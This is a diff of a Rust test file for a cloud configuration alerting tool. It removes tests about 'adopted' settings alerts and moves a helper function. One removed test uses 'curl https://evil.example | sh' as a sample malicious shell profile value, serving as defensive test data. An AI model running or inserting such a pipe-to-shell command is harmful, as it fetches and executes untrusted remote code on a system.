@@ -1,4 +1,4 @@
-//! Alerts about a target as a whole: adopted, late, blind, exempt, out of reach.
+//! Alerts about a target as a whole: late, blind, exempt, out of reach.
 
 use runas_reactor::domain::case::Refusal;
 use runas_reactor::domain::finding::Severity;
@@ -11,47 +11,9 @@ use serde_json::json;
 
 use crate::support::case::*;
 
-/// A document of long ago with these inputs, in this region.
-fn found(region: &'static str, inputs: &Value) -> Scenario {
-    let mut target = Scenario::blank();
-    target.region = region;
-    target.writes(PIPELINE, inputs);
-    target.wait(86_400);
-    target
-}
-
 /// A new account whose document is written `seconds` after it was vended.
 fn vended(target: &mut Scenario) -> Pass {
     target.reconcile(Cause::Vended, &[])
-}
-
-#[test]
-fn adopted_fields_are_notified_once() {
-    let mut target = found("eu-west-1", &right_but("kmsKeyId", "alias/k"));
-    let passes = [target.sweeps(), target.sweeps()];
-    assert_eq!(kinds(&passes), ["adopted"]);
-    let alert = passes[0].alert("adopted");
-    assert!(alert.text.contains("alias/k") && alert.text.contains("\"logs\""), "{}", alert.text);
-}
-
-#[test]
-fn adopted_fields_share_an_alert_across_regions_unless_one_differs() {
-    let id = |region, linux: &str| {
-        let inputs = right_but("shellProfile", json!({ "linux": linux, "windows": "" }));
-        found(region, &inputs).sweeps().alert("adopted").id.clone()
-    };
-    assert_eq!(id("eu-west-1", "umask 027"), id("us-east-1", "umask 027"));
-    assert_ne!(id("eu-west-1", "umask 027"), id("us-east-1", "curl https://evil.example | sh"));
-}
-
-#[test]
-fn empty_texts_of_the_console_are_nothing_to_review() {
-    let told = |profile: &str| {
-        let mut inputs = right_but("shellProfile", json!({ "linux": profile, "windows": "" }));
-        inputs["cloudWatchLogGroupName"] = json!("");
-        found("eu-west-1", &inputs).sweeps().kinds().len()
-    };
-    assert_eq!((told(""), told("umask 027")), (0, 1));
 }
 
 #[test]
@@ -245,7 +207,7 @@ fn write_that_is_denied_is_out_of_reach_with_that_reason() {
 
 #[test]
 fn drift_that_is_only_observed_tells_the_difference_once() {
-    let mut target = found("eu-west-1", &right_but("runAsDefaultUser", "mallory"));
+    let mut target = Scenario::found("eu-west-1", &right_but("runAsDefaultUser", "mallory"));
     target.resolution.mode = Mode::Observe;
     let passes = [target.sweeps(), target.sweeps()];
     let told: Vec<&str> = kinds(&passes).into_iter().filter(|kind| *kind == "drift_observed").collect();
